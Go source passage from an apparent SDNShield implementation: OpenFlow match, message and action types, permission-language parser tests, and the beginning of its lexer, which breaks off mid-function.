		if mask == 0 {
			continue
		}
		if p.FieldValue(Field(i), inPort)&mask != m.values[i] {
			return false
		}
	}
	return true
}

// Subsumes reports whether every packet matched by other is also matched
// by m (m is the same predicate or strictly wider).
func (m *Match) Subsumes(other *Match) bool {
	for i := 1; i < numFields; i++ {
		mask := m.masks[i]
		if mask == 0 {
			continue
		}
		// m constrains bits that other leaves free: some packet matched
		// by other can differ from m on those bits.
		if mask&^other.masks[i] != 0 {
			return false
		}
		if other.values[i]&mask != m.values[i] {
			return false
		}
	}
	return true
}

// Overlaps reports whether some packet could satisfy both predicates.
func (m *Match) Overlaps(other *Match) bool {
	for i := 1; i < numFields; i++ {
		common := m.masks[i] & other.masks[i]
		if common == 0 {
			continue
		}
		if m.values[i]&common != other.values[i]&common {
			return false
		}
	}
	return true
}

// Equal reports whether the two predicates constrain exactly the same
// packets field-by-field.
func (m *Match) Equal(other *Match) bool {
	return m.masks == other.masks && m.values == other.values
}

// Key returns a canonical string usable as a map key for exact-match
// deduplication of predicates.
func (m *Match) Key() string {
	var sb strings.Builder
	for _, f := range AllFields {
		if mask := m.masks[f]; mask != 0 {
			fmt.Fprintf(&sb, "%d=%x/%x;", f, m.values[f], mask)
		}
	}
	return sb.String()
}

// String renders the match for logs and error messages.
func (m *Match) String() string {
	fields := m.ConstrainedFields()
	if len(fields) == 0 {
		return "match(*)"
	}
	parts := make([]string, 0, len(fields))
	for _, f := range fields {
		v, mask := m.Get(f)
		switch f {
		case FieldIPSrc, FieldIPDst:
			if mask == FullMask(f) {
				parts = append(parts, fmt.Sprintf("%s=%s", f, IPv4(v)))
			} else {
				parts = append(parts, fmt.Sprintf("%s=%s/%s", f, IPv4(v), IPv4(mask)))
			}
		case FieldEthSrc, FieldEthDst:
			parts = append(parts, fmt.Sprintf("%s=%s", f, MACFromUint64(v)))
		default:
			if mask == FullMask(f) {
				parts = append(parts, fmt.Sprintf("%s=%d", f, v))
			} else {
				parts = append(parts, fmt.Sprintf("%s=%x/%x", f, v, mask))
			}
		}
	}
	return "match(" + strings.Join(parts, ",") + ")"
}
