package of

import "fmt"

// MsgType discriminates controller/switch messages.
type MsgType uint8

// Message types, a subset of the OpenFlow 1.0 ofp_type enum.
const (
	MsgHello MsgType = iota + 1
	MsgEchoRequest
	MsgEchoReply
	MsgError
	MsgFeaturesRequest
	MsgFeaturesReply
	MsgPacketIn
	MsgPacketOut
	MsgFlowMod
	MsgFlowRemoved
	MsgPortStatus
	MsgStatsRequest
	MsgStatsReply
	MsgBarrierRequest
	MsgBarrierReply
)

// String names the message type.
func (t MsgType) String() string {
	switch t {
	case MsgHello:
		return "HELLO"
	case MsgEchoRequest:
		return "ECHO_REQUEST"
	case MsgEchoReply:
		return "ECHO_REPLY"
	case MsgError:
		return "ERROR"
	case MsgFeaturesRequest:
		return "FEATURES_REQUEST"
	case MsgFeaturesReply:
		return "FEATURES_REPLY"
	case MsgPacketIn:
		return "PACKET_IN"
	case MsgPacketOut:
		return "PACKET_OUT"
	case MsgFlowMod:
		return "FLOW_MOD"
	case MsgFlowRemoved:
		return "FLOW_REMOVED"
	case MsgPortStatus:
		return "PORT_STATUS"
	case MsgStatsRequest:
		return "STATS_REQUEST"
	case MsgStatsReply:
		return "STATS_REPLY"
	case MsgBarrierRequest:
		return "BARRIER_REQUEST"
	case MsgBarrierReply:
		return "BARRIER_REPLY"
	default:
		return fmt.Sprintf("MSG(%d)", uint8(t))
	}
}

// Message is implemented by every protocol message.
type Message interface {
	// Type returns the wire discriminator of the message.
	Type() MsgType
	// XID returns the transaction id correlating requests and replies.
	XID() uint32
}

// Header carries the fields common to all messages.
type Header struct {
	Xid uint32
}

// XID returns the transaction id.
func (h Header) XID() uint32 { return h.Xid }

// Hello opens a control channel.
type Hello struct {
	Header
}

// Type implements Message.
func (*Hello) Type() MsgType { return MsgHello }

// EchoRequest is a liveness probe.
type EchoRequest struct {
	Header
	Data []byte
}

// Type implements Message.
func (*EchoRequest) Type() MsgType { return MsgEchoRequest }

// EchoReply answers an EchoRequest, echoing its data.
type EchoReply struct {
	Header
	Data []byte
}

// Type implements Message.
func (*EchoReply) Type() MsgType { return MsgEchoReply }

// ErrorCode classifies Error messages.
type ErrorCode uint16

// Error codes surfaced by the switch simulator and the controller.
const (
	ErrBadRequest ErrorCode = iota + 1
	ErrBadMatch
	ErrBadAction
	ErrTableFull
	ErrPermDenied
	ErrUnknownFlow
)

// String names the error code.
func (c ErrorCode) String() string {
	switch c {
	case ErrBadRequest:
		return "BAD_REQUEST"
	case ErrBadMatch:
		return "BAD_MATCH"
	case ErrBadAction:
		return "BAD_ACTION"
	case ErrTableFull:
		return "TABLE_FULL"
	case ErrPermDenied:
		return "PERM_DENIED"
	case ErrUnknownFlow:
		return "UNKNOWN_FLOW"
	default:
		return fmt.Sprintf("ERR(%d)", uint16(c))
	}
}

// Error reports a failure processing an earlier message.
type Error struct {
	Header
	Code    ErrorCode
	Message string
}

// Type implements Message.
func (*Error) Type() MsgType { return MsgError }

// FeaturesRequest asks a switch for its datapath description.
type FeaturesRequest struct {
	Header
}

// Type implements Message.
func (*FeaturesRequest) Type() MsgType { return MsgFeaturesRequest }

// FeaturesReply describes a datapath: its DPID and physical ports.
type FeaturesReply struct {
	Header
	DPID     DPID
	NumPorts uint16
	Ports    []PortInfo
}

// Type implements Message.
func (*FeaturesReply) Type() MsgType { return MsgFeaturesReply }

// PortInfo describes one switch port.
type PortInfo struct {
	Port uint16
	Name string
	Up   bool
}

// PacketInReason explains why a switch sent a packet to the controller.
type PacketInReason uint8

// Packet-in reasons.
const (
	ReasonNoMatch PacketInReason = iota + 1
	ReasonAction
)

// PacketIn delivers a data-plane packet to the controller.
type PacketIn struct {
	Header
	DPID     DPID
	InPort   uint16
	Reason   PacketInReason
	BufferID uint32
	Packet   *Packet
}

// Type implements Message.
func (*PacketIn) Type() MsgType { return MsgPacketIn }

// PacketOut injects a data-plane packet through a switch.
type PacketOut struct {
	Header
	DPID     DPID
	InPort   uint16
	BufferID uint32
	Actions  []Action
	Packet   *Packet
}

// Type implements Message.
func (*PacketOut) Type() MsgType { return MsgPacketOut }

// FlowModCommand selects the flow-table operation of a FlowMod.
type FlowModCommand uint8

// Flow-mod commands, mirroring ofp_flow_mod_command.
const (
	FlowAdd FlowModCommand = iota + 1
	FlowModify
	FlowDelete
	FlowDeleteStrict
)

// String names the command.
func (c FlowModCommand) String() string {
	switch c {
	case FlowAdd:
		return "ADD"
	case FlowModify:
		return "MODIFY"
	case FlowDelete:
		return "DELETE"
	case FlowDeleteStrict:
		return "DELETE_STRICT"
	default:
		return fmt.Sprintf("CMD(%d)", uint8(c))
	}
}

// FlowMod installs, modifies or removes flow entries.
type FlowMod struct {
	Header
	DPID        DPID
	Command     FlowModCommand
	Match       *Match
	Priority    uint16
	IdleTimeout uint16
	HardTimeout uint16
	Cookie      uint64
	Actions     []Action
}

// Type implements Message.
func (*FlowMod) Type() MsgType { return MsgFlowMod }

// FlowRemovedReason explains a FlowRemoved notification.
type FlowRemovedReason uint8

// Flow removal reasons.
const (
	RemovedIdleTimeout FlowRemovedReason = iota + 1
	RemovedHardTimeout
	RemovedDelete
)

// FlowRemoved notifies the controller that an entry left the flow table.
type FlowRemoved struct {
	Header
	DPID     DPID
	Match    *Match
	Priority uint16
	Cookie   uint64
	Reason   FlowRemovedReason
	Packets  uint64
	Bytes    uint64
}

// Type implements Message.
func (*FlowRemoved) Type() MsgType { return MsgFlowRemoved }

// PortStatusReason explains a PortStatus notification.
type PortStatusReason uint8

// Port status reasons.
const (
	PortAdded PortStatusReason = iota + 1
	PortDeleted
	PortModified
)

// PortStatus notifies the controller of a port change.
type PortStatus struct {
	Header
	DPID   DPID
	Reason PortStatusReason
	Port   PortInfo
}

// Type implements Message.
func (*PortStatus) Type() MsgType { return MsgPortStatus }

// StatsType selects the statistics family of a stats request/reply.
type StatsType uint8

// Statistics families. These correspond directly to the FLOW_LEVEL /
// PORT_LEVEL / SWITCH_LEVEL granularities of the SDNShield statistics
// filter.
const (
	StatsFlow StatsType = iota + 1
	StatsPort
	StatsSwitch
)

// String names the statistics family.
func (t StatsType) String() string {
	switch t {
	case StatsFlow:
		return "FLOW"
	case StatsPort:
		return "PORT"
	case StatsSwitch:
		return "SWITCH"
	default:
		return fmt.Sprintf("STATS(%d)", uint8(t))
	}
}

// StatsRequest queries switch counters.
type StatsRequest struct {
	Header
	DPID DPID
	Kind StatsType
	// Match restricts flow-stats requests; nil means all flows.
	Match *Match
	// Port restricts port-stats requests; PortNone means all ports.
	Port uint16
}

// Type implements Message.
func (*StatsRequest) Type() MsgType { return MsgStatsRequest }

// FlowStatsEntry is one row of a flow-stats reply.
type FlowStatsEntry struct {
	Match    *Match
	Priority uint16
	Cookie   uint64
	Packets  uint64
	Bytes    uint64
}

// PortStatsEntry is one row of a port-stats reply.
type PortStatsEntry struct {
	Port      uint16
	RxPackets uint64
	TxPackets uint64
	RxBytes   uint64
	TxBytes   uint64
	Drops     uint64
}

// SwitchStats is the switch-level aggregate of a stats reply.
type SwitchStats struct {
	FlowCount    uint32
	PacketsTotal uint64
	BytesTotal   uint64
}

// StatsReply answers a StatsRequest with the rows of the requested family.
type StatsReply struct {
	Header
	DPID   DPID
	Kind   StatsType
	Flows  []FlowStatsEntry
	Ports  []PortStatsEntry
	Switch SwitchStats
}

// Type implements Message.
func (*StatsReply) Type() MsgType { return MsgStatsReply }

// BarrierRequest asks the switch to finish all preceding messages.
type BarrierRequest struct {
	Header
}

// Type implements Message.
func (*BarrierRequest) Type() MsgType { return MsgBarrierRequest }

// BarrierReply confirms a BarrierRequest.
type BarrierReply struct {
	Header
}

// Type implements Message.
func (*BarrierReply) Type() MsgType { return MsgBarrierReply }

// Compile-time interface compliance checks.
var (
	_ Message = (*Hello)(nil)
	_ Message = (*EchoRequest)(nil)
	_ Message = (*EchoReply)(nil)
	_ Message = (*Error)(nil)
	_ Message = (*FeaturesRequest)(nil)
	_ Message = (*FeaturesReply)(nil)
	_ Message = (*PacketIn)(nil)
	_ Message = (*PacketOut)(nil)
	_ Message = (*FlowMod)(nil)
	_ Message = (*FlowRemoved)(nil)
	_ Message = (*PortStatus)(nil)
	_ Message = (*StatsRequest)(nil)
	_ Message = (*StatsReply)(nil)
	_ Message = (*BarrierRequest)(nil)
	_ Message = (*BarrierReply)(nil)
)
