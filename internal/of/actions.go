package of

import (
	"fmt"
	"strings"
)

// ActionType discriminates the flow actions this substrate supports.
type ActionType uint8

// Supported action types. ActionDrop is represented explicitly (an empty
// action list also drops, as in OpenFlow); the explicit form lets the
// permission engine's action filter reason about intent.
const (
	ActionOutput ActionType = iota + 1
	ActionDrop
	ActionSetField
	ActionFlood
)

// String names the action type in permission-language vocabulary.
func (t ActionType) String() string {
	switch t {
	case ActionOutput:
		return "OUTPUT"
	case ActionDrop:
		return "DROP"
	case ActionSetField:
		return "MODIFY"
	case ActionFlood:
		return "FLOOD"
	default:
		return fmt.Sprintf("ACTION(%d)", uint8(t))
	}
}

// Action is one element of a flow-mod or packet-out action list.
type Action struct {
	Type ActionType
	// Port is the output port for ActionOutput (may be a reserved port).
	Port uint16
	// Field and Value describe the rewrite for ActionSetField.
	Field Field
	Value uint64
}

// Output builds an output-to-port action.
func Output(port uint16) Action { return Action{Type: ActionOutput, Port: port} }

// Drop builds an explicit drop action.
func Drop() Action { return Action{Type: ActionDrop} }

// Flood builds a flood-to-all-ports action.
func Flood() Action { return Action{Type: ActionFlood} }

// SetField builds a header-rewrite action.
func SetField(f Field, v uint64) Action { return Action{Type: ActionSetField, Field: f, Value: v} }

// String renders the action for logs.
func (a Action) String() string {
	switch a.Type {
	case ActionOutput:
		switch a.Port {
		case PortController:
			return "output:CONTROLLER"
		case PortFlood:
			return "output:FLOOD"
		case PortInPort:
			return "output:IN_PORT"
		default:
			return fmt.Sprintf("output:%d", a.Port)
		}
	case ActionDrop:
		return "drop"
	case ActionFlood:
		return "flood"
	case ActionSetField:
		return fmt.Sprintf("set(%s=%x)", a.Field, a.Value)
	default:
		return a.Type.String()
	}
}

// ActionsString renders an action list compactly.
func ActionsString(actions []Action) string {
	if len(actions) == 0 {
		return "drop"
	}
	parts := make([]string, len(actions))
	for i, a := range actions {
		parts[i] = a.String()
	}
	return strings.Join(parts, ",")
}

// CloneActions deep-copies an action list so callers can hold it across a
// package boundary without aliasing (see "copy slices at boundaries").
func CloneActions(actions []Action) []Action {
	if actions == nil {
		return nil
	}
	out := make([]Action, len(actions))
	copy(out, actions)
	return out
}
