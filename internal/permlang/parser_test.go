package permlang

import (
	"strings"
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/of"
)

func TestParsePaperReadFlowTableExample(t *testing.T) {
	// §IV-B predicate filter example.
	m, err := Parse(`PERM read_flow_table LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0`)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Permissions) != 1 {
		t.Fatalf("got %d permissions", len(m.Permissions))
	}
	p := m.Permissions[0]
	if p.Token != core.TokenReadFlowTable {
		t.Errorf("token = %v", p.Token)
	}
	leaf, ok := p.Filter.(*core.Leaf)
	if !ok {
		t.Fatalf("filter = %T", p.Filter)
	}
	pred, ok := leaf.F.(*core.PredFilter)
	if !ok {
		t.Fatalf("singleton = %T", leaf.F)
	}
	if pred.Field() != of.FieldIPDst ||
		of.IPv4(pred.Value()) != of.IPv4FromOctets(10, 13, 0, 0) ||
		of.IPv4(pred.Mask()) != of.PrefixMask(16) {
		t.Errorf("pred = %s", pred)
	}
}

func TestParsePaperWildcardExample(t *testing.T) {
	// §IV-B load balancer example.
	m, err := Parse(`PERM insert_flow LIMITING WILDCARD IP_DST 255.255.255.0`)
	if err != nil {
		t.Fatal(err)
	}
	leaf := m.Permissions[0].Filter.(*core.Leaf)
	wc, ok := leaf.F.(*core.WildcardFilter)
	if !ok {
		t.Fatalf("singleton = %T", leaf.F)
	}
	if wc.Field() != of.FieldIPDst || of.IPv4(wc.Required()) != of.PrefixMask(24) {
		t.Errorf("wildcard = %s", wc)
	}
}

func TestParsePaperCompositionExample(t *testing.T) {
	// §IV-B filter composition with line continuations.
	src := "PERM read_flow_table LIMITING OWN_FLOWS OR \\\n" +
		"IP_SRC 10.13.0.0 MASK 255.255.0.0 OR \\\n" +
		"IP_DST 10.13.0.0 MASK 255.255.0.0"
	m, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	f := m.Permissions[0].Filter
	// Left-associative: (OWN OR SRC) OR DST.
	or, ok := f.(*core.Or)
	if !ok {
		t.Fatalf("filter = %T", f)
	}
	if _, ok := or.L.(*core.Or); !ok {
		t.Error("OR should be left-associative")
	}
	call := &core.Call{App: "x", Token: core.TokenReadFlowTable,
		Match:     of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 13, 1, 1))),
		FlowOwner: "y", HasFlowOwner: true}
	if !f.Eval(call) {
		t.Error("dst-subnet flow should pass the composed filter")
	}
}

func TestParsePaperVirtualTopology(t *testing.T) {
	m, err := Parse(`PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS`)
	if err != nil {
		t.Fatal(err)
	}
	leaf := m.Permissions[0].Filter.(*core.Leaf)
	vt, ok := leaf.F.(*core.VirtTopoFilter)
	if !ok || vt.Mode() != core.VirtSingleBigSwitch {
		t.Fatalf("filter = %v", leaf.F)
	}

	m, err = Parse(`PERM visible_topology LIMITING VIRTUAL {{1,2} AS 100, {3} AS 101}`)
	if err != nil {
		t.Fatal(err)
	}
	vt = m.Permissions[0].Filter.(*core.Leaf).F.(*core.VirtTopoFilter)
	groups := vt.Groups()
	if len(groups) != 2 || len(groups[100]) != 2 || groups[101][0] != 3 {
		t.Errorf("groups = %v", groups)
	}
}

func TestParseScenario2Manifest(t *testing.T) {
	// §VII Scenario 2: the malicious routing app's configured permissions.
	src := `
PERM visible_topology
PERM flow_event
PERM send_pkt_out
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
`
	m, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Permissions) != 4 {
		t.Fatalf("got %d permissions", len(m.Permissions))
	}
	s := m.Set()
	insert := &core.Call{App: "router", Token: core.TokenInsertFlow,
		Match:        of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 0, 0, 1))),
		Actions:      []of.Action{of.Output(2)},
		HasFlowOwner: true}
	if !s.Allows(insert) {
		t.Error("forward rule on own flow should pass")
	}
	insert.FlowOwner = "firewall"
	if s.Allows(insert) {
		t.Error("modifying another app's flow must be denied")
	}
	insert.FlowOwner = ""
	insert.Actions = []of.Action{of.Drop()}
	if s.Allows(insert) {
		t.Error("drop action must be denied by ACTION FORWARD")
	}
}

func TestParseScenario1ManifestWithStubs(t *testing.T) {
	// §VII Scenario 1: stubs LocalTopo and AdminRange await binding.
	src := `
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`
	m, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	macros := m.Macros()
	if len(macros) != 2 || macros[0] != "LocalTopo" || macros[1] != "AdminRange" {
		t.Errorf("macros = %v", macros)
	}
	// network_access is an alias of host_network.
	if m.Permissions[2].Token != core.TokenHostNetwork {
		t.Errorf("alias resolution failed: %v", m.Permissions[2].Token)
	}
	// An unresolved stub denies.
	s := m.Set()
	if s.Allows(&core.Call{App: "m", Token: core.TokenHostNetwork,
		HostIP: of.IPv4FromOctets(10, 1, 0, 3), HasHostIP: true}) {
		t.Error("unresolved macro must deny")
	}
}

func TestParseAllSingletonFilters(t *testing.T) {
	tests := []struct {
		src  string
		want string // round-trip rendering
	}{
		{"PERM insert_flow LIMITING TCP_DST 80", "PERM insert_flow LIMITING TCP_DST 80"},
		{"PERM insert_flow LIMITING ACTION DROP", "PERM insert_flow LIMITING ACTION DROP"},
		{"PERM insert_flow LIMITING MODIFY IP_DST", "PERM insert_flow LIMITING ACTION MODIFY IP_DST"},
		{"PERM insert_flow LIMITING ACTION MODIFY", "PERM insert_flow LIMITING ACTION MODIFY"},
		{"PERM read_flow_table LIMITING ALL_FLOWS", "PERM read_flow_table LIMITING ALL_FLOWS"},
		{"PERM insert_flow LIMITING MAX_PRIORITY 100", "PERM insert_flow LIMITING MAX_PRIORITY 100"},
		{"PERM insert_flow LIMITING MIN_PRIORITY 5", "PERM insert_flow LIMITING MIN_PRIORITY 5"},
		{"PERM insert_flow LIMITING MAX_RULE_COUNT 64", "PERM insert_flow LIMITING MAX_RULE_COUNT 64"},
		{"PERM send_pkt_out LIMITING FROM_PKT_IN", "PERM send_pkt_out LIMITING FROM_PKT_IN"},
		{"PERM send_pkt_out LIMITING ARBITRARY", "PERM send_pkt_out LIMITING ARBITRARY"},
		{"PERM visible_topology LIMITING SWITCH {1,2,3}", "PERM visible_topology LIMITING SWITCH {1,2,3}"},
		{"PERM visible_topology LIMITING SWITCH 1,2 LINK 1-2", "PERM visible_topology LIMITING SWITCH {1,2} LINK {1-2}"},
		{"PERM pkt_in_event LIMITING EVENT_INTERCEPTION", "PERM pkt_in_event LIMITING EVENT_INTERCEPTION"},
		{"PERM pkt_in_event LIMITING MODIFY_EVENT_ORDER", "PERM pkt_in_event LIMITING MODIFY_EVENT_ORDER"},
		{"PERM read_statistics LIMITING PORT_LEVEL", "PERM read_statistics LIMITING PORT_LEVEL"},
		{"PERM read_statistics LIMITING FLOW_LEVEL OR SWITCH_LEVEL", "PERM read_statistics LIMITING (FLOW_LEVEL OR SWITCH_LEVEL)"},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			m, err := Parse(tt.src)
			if err != nil {
				t.Fatal(err)
			}
			if got := m.String(); got != tt.want {
				t.Errorf("round trip = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestParseRoundTripReparse(t *testing.T) {
	// Printing then reparsing must preserve semantics (structural
	// equality of the filter trees).
	srcs := []string{
		"PERM read_flow_table LIMITING OWN_FLOWS OR IP_DST 10.13.0.0 MASK 255.255.0.0",
		"PERM insert_flow LIMITING (ACTION FORWARD AND OWN_FLOWS) OR MAX_PRIORITY 10",
		"PERM insert_flow LIMITING NOT (TCP_DST 22 OR TCP_DST 23)",
		"PERM visible_topology LIMITING VIRTUAL {{1,2} AS 7} ",
		"PERM visible_topology LIMITING SWITCH {1,2} LINK {1-2}",
	}
	for _, src := range srcs {
		m1, err := Parse(src)
		if err != nil {
			t.Fatalf("%s: %v", src, err)
		}
		m2, err := Parse(m1.String())
		if err != nil {
			t.Fatalf("reparse %q: %v", m1.String(), err)
		}
		if len(m1.Permissions) != len(m2.Permissions) {
			t.Fatalf("length mismatch for %q", src)
		}
		for i := range m1.Permissions {
			if m1.Permissions[i].Token != m2.Permissions[i].Token ||
				!core.ExprEqual(m1.Permissions[i].Filter, m2.Permissions[i].Filter) {
				t.Errorf("round trip changed %q ->\n%s", src, m1)
			}
		}
	}
}

func TestParsePrecedence(t *testing.T) {
	// AND binds tighter than OR; NOT tighter than AND.
	m, err := Parse("PERM insert_flow LIMITING OWN_FLOWS OR ACTION FORWARD AND MAX_PRIORITY 10")
	if err != nil {
		t.Fatal(err)
	}
	or, ok := m.Permissions[0].Filter.(*core.Or)
	if !ok {
		t.Fatalf("top = %T, want Or", m.Permissions[0].Filter)
	}
	if _, ok := or.R.(*core.And); !ok {
		t.Error("right of OR should be an And")
	}

	m, err = Parse("PERM insert_flow LIMITING NOT OWN_FLOWS AND ACTION FORWARD")
	if err != nil {
		t.Fatal(err)
	}
	and, ok := m.Permissions[0].Filter.(*core.And)
	if !ok {
		t.Fatalf("top = %T, want And", m.Permissions[0].Filter)
	}
	if _, ok := and.L.(*core.Not); !ok {
		t.Error("NOT should bind to the singleton, not the conjunction")
	}
}

func TestParseComments(t *testing.T) {
	src := `
# the app's request
PERM read_statistics // port granularity is enough
PERM flow_event
`
	m, err := Parse(src)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Permissions) != 2 {
		t.Errorf("got %d permissions", len(m.Permissions))
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct {
		name, src, wantSubstr string
	}{
		{"unknown token", "PERM fly_to_moon", "unknown permission token"},
		{"missing perm", "LIMITING OWN_FLOWS", "expected PERM"},
		{"bad filter", "PERM insert_flow LIMITING 42", "expected a filter"},
		{"unclosed paren", "PERM insert_flow LIMITING (OWN_FLOWS", "expected ')'"},
		{"bad mask", "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK", "expected a value"},
		{"huge priority", "PERM insert_flow LIMITING MAX_PRIORITY 70000", "out of range"},
		{"bad wildcard field", "PERM insert_flow LIMITING WILDCARD NOPE 3", "unknown match field"},
		{"dangling operator", "PERM insert_flow LIMITING OWN_FLOWS AND", "expected a filter"},
		{"bad link", "PERM visible_topology LIMITING SWITCH 1 LINK 1+2", "unexpected character"},
		{"malformed ip", "PERM insert_flow LIMITING IP_DST 10.0.0", "malformed number"},
		{"bad octet", "PERM insert_flow LIMITING IP_DST 910.0.0.1", "bad IPv4 octet"},
		{"unterminated string", `PERM insert_flow LIMITING "oops`, "unterminated string"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse(tt.src)
			if err == nil {
				t.Fatal("expected error")
			}
			if !strings.Contains(err.Error(), tt.wantSubstr) {
				t.Errorf("error %q does not contain %q", err, tt.wantSubstr)
			}
			var se *SyntaxError
			if !errorsAs(err, &se) {
				t.Errorf("error %T is not a SyntaxError", err)
			} else if se.Line < 1 || se.Col < 1 {
				t.Errorf("bad position %d:%d", se.Line, se.Col)
			}
		})
	}
}

// errorsAs is a tiny local helper to avoid importing errors just for one
// assertion (SyntaxError is always returned unwrapped here).
func errorsAs(err error, target **SyntaxError) bool {
	se, ok := err.(*SyntaxError)
	if ok {
		*target = se
	}
	return ok
}

func TestParseDuplicateTokenWidens(t *testing.T) {
	m, err := Parse(`
PERM read_flow_table LIMITING OWN_FLOWS
PERM read_flow_table LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0
`)
	if err != nil {
		t.Fatal(err)
	}
	s := m.Set()
	if s.Len() != 1 {
		t.Fatalf("set length = %d", s.Len())
	}
	call := &core.Call{App: "a", Token: core.TokenReadFlowTable,
		Match:     of.NewMatch().Set(of.FieldIPDst, uint64(of.IPv4FromOctets(10, 13, 2, 2))),
		FlowOwner: "b", HasFlowOwner: true}
	if !s.Allows(call) {
		t.Error("second grant must widen the first")
	}
}

func TestMustParsePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParse should panic on bad input")
		}
	}()
	MustParse("PERM bogus_token")
}

func TestParseBudgetStatements(t *testing.T) {
	m, err := Parse(`
PERM pkt_in_event
BUDGET MAX_GOROUTINES 4
PERM insert_flow LIMITING OWN_FLOWS
BUDGET CPU_MS_PER_SEC 250
BUDGET ALLOC_KB_PER_SEC 1024
`)
	if err != nil {
		t.Fatal(err)
	}
	if len(m.Permissions) != 2 {
		t.Fatalf("got %d permissions", len(m.Permissions))
	}
	want := core.Budget{CPUMillisPerSec: 250, AllocKBPerSec: 1024, MaxGoroutines: 4}
	if m.Budget != want {
		t.Fatalf("budget = %+v, want %+v", m.Budget, want)
	}
	// Rendering is canonical: permissions first, budget keys in fixed order.
	rendered := m.String()
	wantRender := "PERM pkt_in_event\n" +
		"PERM insert_flow LIMITING OWN_FLOWS\n" +
		"BUDGET CPU_MS_PER_SEC 250\n" +
		"BUDGET ALLOC_KB_PER_SEC 1024\n" +
		"BUDGET MAX_GOROUTINES 4"
	if rendered != wantRender {
		t.Fatalf("rendered:\n%s\nwant:\n%s", rendered, wantRender)
	}
	m2, err := Parse(rendered)
	if err != nil {
		t.Fatalf("reparse: %v", err)
	}
	if m2.Budget != want || m2.String() != rendered {
		t.Error("budget rendering is not a parse/print fixpoint")
	}
}

func TestParseBudgetRepeatedKeyLastWins(t *testing.T) {
	m, err := Parse("BUDGET MAX_DROPS_PER_SEC 10\nBUDGET MAX_DROPS_PER_SEC 99\n")
	if err != nil {
		t.Fatal(err)
	}
	if m.Budget.MaxDropsPerSec != 99 {
		t.Fatalf("MaxDropsPerSec = %d, want 99", m.Budget.MaxDropsPerSec)
	}
}

func TestParseBudgetUnknownKey(t *testing.T) {
	_, err := Parse("BUDGET MAX_SOCKETS 5\n")
	var se *SyntaxError
	if err == nil || !errorsAs(err, &se) {
		t.Fatalf("err = %v, want SyntaxError", err)
	}
	if !strings.Contains(se.Msg, "unknown budget key") {
		t.Errorf("msg = %q", se.Msg)
	}
}
