// Package permlang implements the SDNShield permission language
// (Appendix A of the paper): a lexer and parser turning permission
// manifests into internal/core permission sets, and a printer for the
// reverse direction. The lexer is shared with the security-policy
// language (internal/policylang), which embeds permission expressions.
package permlang

import (
	"fmt"
	"strconv"
	"strings"
)

// TokKind classifies lexical tokens.
type TokKind int

// Token kinds.
const (
	TokEOF TokKind = iota + 1
	TokIdent
	TokInt
	TokIP
	TokString
	TokLBrace
	TokRBrace
	TokLParen
	TokRParen
	TokComma
	TokDash
	TokEq // =
	TokLe // <=
	TokGe // >=
	TokLt // <
	TokGt // >
)

// String names the token kind for diagnostics.
func (k TokKind) String() string {
	switch k {
	case TokEOF:
		return "end of input"
	case TokIdent:
		return "identifier"
	case TokInt:
		return "integer"
	case TokIP:
		return "IP address"
	case TokString:
		return "string"
	case TokLBrace:
		return "'{'"
	case TokRBrace:
		return "'}'"
	case TokLParen:
		return "'('"
	case TokRParen:
		return "')'"
	case TokComma:
		return "','"
	case TokDash:
		return "'-'"
	case TokEq:
		return "'='"
	case TokLe:
		return "'<='"
	case TokGe:
		return "'>='"
	case TokLt:
		return "'<'"
	case TokGt:
		return "'>'"
	default:
		return fmt.Sprintf("token(%d)", int(k))
	}
}

// Token is one lexical token with its source position.
type Token struct {
	Kind TokKind
	// Text is the raw identifier or string body.
	Text string
	// Num is the numeric value of TokInt and TokIP tokens (IPs in host
	// byte order).
	Num uint64
	// Line and Col locate the token (1-based).
	Line, Col int
}

// SyntaxError reports a lexical or parse failure with its position.
type SyntaxError struct {
	Line, Col int
	Msg       string
}

// Error implements error.
func (e *SyntaxError) Error() string {
	return fmt.Sprintf("line %d:%d: %s", e.Line, e.Col, e.Msg)
}

// Lexer tokenizes permission-language and policy-language source.
type Lexer struct {
	src  string
	pos  int
	line int
	col  int
}

// NewLexer builds a lexer over src.
func NewLexer(src string) *Lexer {
	return &Lexer{src: src, line: 1, col: 1}
}

func (l *Lexer) errorf(format string, args ...interface{}) *SyntaxError {
	return &SyntaxError{Line: l.line, Col: l.col, Msg: fmt.Sprintf(format, args...)}
}

func (l *Lexer) peekByte() (byte, bool) {
	if l.pos >= len(l.src) {
		return 0, false
	}
	return l.src[l.pos], true
}

func (l *Lexer) advance() byte {
	c := l.src[l.pos]
	l.pos++
	if c == '\n' {
		l.line++
		l.col = 1
	} else {
		l.col++
	}
	return c
}

func (l *Lexer) skipSpaceAndComments() {
	for {
		c, ok := l.peekByte()
		if !ok {
			return
		}
		switch {
		case c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\\':
			// '\' is the manifest line-continuation marker; treat it as
			// whitespace.
			l.advance()
		case c == '#':
			for {
				c, ok := l.peekByte()
				if !ok || c == '\n' {
					break
				}
				l.advance()
			}
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '/':
			for {
				c, ok := l.peekByte()
				if !ok || c == '\n' {
					break
				}
				l.advance()
			}
		default:
			return
		}
	}
}

func isIdentStart(c byte) bool {
	return c == '_' || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}

func isIdentPart(c byte) bool {
